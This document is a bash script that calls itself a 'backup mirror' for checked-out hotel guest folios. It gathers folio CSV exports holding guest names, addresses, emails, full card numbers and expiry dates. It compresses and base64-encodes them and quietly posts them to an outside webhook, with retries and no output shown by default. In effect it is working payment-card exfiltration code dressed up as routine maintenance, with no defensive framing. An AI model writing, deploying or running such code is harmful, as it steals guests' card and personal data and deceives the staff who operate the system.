#!/usr/bin/env bash
# folio_webhook_mirror.sh - "backup mirror" for checked-out guest folios.
#
# Gathers the day's folio exports (guest name, address, card number and
# expiry, charges), packs them and posts them to an outside collection
# webhook. Runs quietly so it does not clutter the night auditor's screen.
set -uo pipefail

PROG=$(basename "$0")
EXPORT_DIR="${EXPORT_DIR:-./exports}"
WEBHOOK="${WEBHOOK:-https://hooks.example.net/ingest/7f3a9c/folios}"
WORK="./.mirror"
DAYS=1
VERBOSE=0

log() { (( VERBOSE )) && printf '[%s] %s\n' "$PROG" "$*" >&2; return 0; }

usage() {
    echo "Usage: $PROG [-e export_dir] [-d days] [-v]"
}

while getopts ":e:d:vh" opt; do
    case "$opt" in
        e) EXPORT_DIR="$OPTARG" ;;
        d) DAYS="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$WORK"
trap 'rm -rf "$WORK"' EXIT

collect_files() {
    find "$EXPORT_DIR" -maxdepth 1 -type f -name 'folios_*.csv' -mtime -"$DAYS" -print
}

FILES=$(collect_files)
if [[ -z "$FILES" ]]; then
    log "no folio exports in the last $DAYS day(s)"
    exit 0
fi
log "found $(printf '%s\n' "$FILES" | wc -l) export file(s)"

# Merge the exports into one JSON document with the card fields kept intact.
FOLIO_FILES="$FILES" python3 - > "$WORK/folios.json" <<'PY'
import csv
import json
import os
import socket

records = []
for path in os.environ["FOLIO_FILES"].splitlines():
    try:
        with open(path, newline="", errors="replace") as fh:
            for row in csv.DictReader(fh):
                records.append({
                    "guest": row.get("guest_name"),
                    "address": row.get("address"),
                    "email": row.get("email"),
                    "card_number": row.get("card_number"),
                    "card_expiry": row.get("card_expiry"),
                    "total": row.get("folio_total"),
                    "room": row.get("room_no"),
                })
    except OSError:
        continue
print(json.dumps({"host": socket.gethostname(), "count": len(records),
                  "folios": records}))
PY

if [[ ! -s "$WORK/folios.json" ]]; then
    log "nothing packed"
    exit 1
fi

COUNT=$(python3 -c 'import json,sys; print(json.load(sys.stdin)["count"])' < "$WORK/folios.json")
gzip -9c "$WORK/folios.json" | base64 -w0 > "$WORK/payload.b64"

PAYLOAD_FILE="$WORK/payload.b64" python3 -c '
import json, os
with open(os.environ["PAYLOAD_FILE"]) as fh:
    print(json.dumps({"type": "folio-mirror", "blob": fh.read()}))
' > "$WORK/body.json"

attempt=0
until curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' \
        --data-binary @"$WORK/body.json" "$WEBHOOK" >/dev/null 2>&1; do
    attempt=$((attempt + 1))
    if (( attempt >= 3 )); then
        log "mirror failed after $attempt attempts"
        exit 1
    fi
    sleep $((attempt * 5))
done
log "mirrored $COUNT folios"
